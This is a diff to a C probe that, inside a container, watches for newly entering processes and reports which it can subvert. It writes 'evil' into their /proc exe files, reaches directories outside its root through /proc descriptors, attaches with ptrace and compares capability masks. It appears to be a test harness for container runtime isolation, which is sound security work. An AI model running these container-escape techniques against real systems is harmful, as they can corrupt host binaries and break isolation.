@@ -1,7 +1,9 @@
-/* Inside of a container: tries to get hold of every new process, for some seconds.
+/* Inside of a container: tries to get hold of every new process, for argv[1] seconds.
  *
  * Tells on stdout what it got: "exe PID" a program opened for writing, "fd PID N" a directory other
- * than our root, opened through /proc, "trace PID" a process attached to; "seen N" counts its looks.
+ * than our root, opened through /proc, "trace PID" a process attached to, "caps PID MASK" a process
+ * that has capabilities which we have not; "seen N" counts its looks. The last two it does when
+ * argv[2] has a 't' or a 'c'.
  */
 #define _GNU_SOURCE
 #include <fcntl.h>
@@ -21,12 +23,12 @@ static int starts_with(const char *s, const char *prefix)
 }
 
 /* Our own programs are no prize: only what the runtime brought along. */
-static int is_foreign(int pid)
+static int is_foreign(int pid, int when_hidden)
 {
     char path[64], target[256] = "";
     snprintf(path, sizeof(path), "/proc/%d/exe", pid);
     if (readlink(path, target, sizeof(target) - 1) < 0)
-        return 0;
+        return when_hidden;
     return !starts_with(target, "/bin/");
 }
 
@@ -34,7 +36,7 @@ static void try_exe(int pid)
 {
     char path[64];
     snprintf(path, sizeof(path), "/proc/%d/exe", pid);
-    if (!is_foreign(pid))
+    if (!is_foreign(pid, 0))
         return;
     int fd = open(path, O_RDWR);
     if (fd >= 0 && write(fd, "evil", 4) == 4)
@@ -61,25 +63,50 @@ static void try_fds(int pid)
 
 static void try_trace(int pid)
 {
-    if (!is_foreign(pid) || ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
+    if (!is_foreign(pid, 1) || ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
         return;
-    printf("trace %d\n", pid);
+    if (is_foreign(pid, 0)) /* and not become a program of ours meanwhile */
+        printf("trace %d\n", pid);
     ptrace(PTRACE_DETACH, pid, NULL, NULL);
+}
+
+/* What anybody who may trace a process could do with it. */
+static unsigned long long permitted(int pid)
+{
+    char path[64], text[4096];
+    snprintf(path, sizeof(path), "/proc/%d/status", pid);
+    int fd = open(path, O_RDONLY);
+    ssize_t got = fd < 0 ? 0 : read(fd, text, sizeof(text) - 1);
+    close(fd);
+    text[got > 0 ? got : 0] = 0;
+    char *at = strstr(text, "CapPrm:");
+    return at ? strtoull(at + 7, NULL, 16) : 0;
+}
+
+static void try_caps(int pid, unsigned long long own)
+{
+    unsigned long long its = permitted(pid);
+    if (its & ~own)
+        printf("caps %d %llx\n", pid, its & ~own);
 }
 
 int main(int argc, char **argv)
 {
     time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 2);
+    const char *tries = argc > 2 ? argv[2] : "";
     long seen = 0;
     int newest = getpid();
+    unsigned long long own = permitted(newest);
     while (time(NULL) < end) {
         for (int pid = newest + 1; pid < newest + 8; pid++) {
             if (kill(pid, 0) < 0)
                 continue;
             seen++;
+            if (strchr(tries, 'c'))
+                try_caps(pid, own);
             try_exe(pid);
             try_fds(pid);
-            if (argc > 2)
+            if (strchr(tries, 't'))
                 try_trace(pid);
         }
         char loadavg[128] = "";
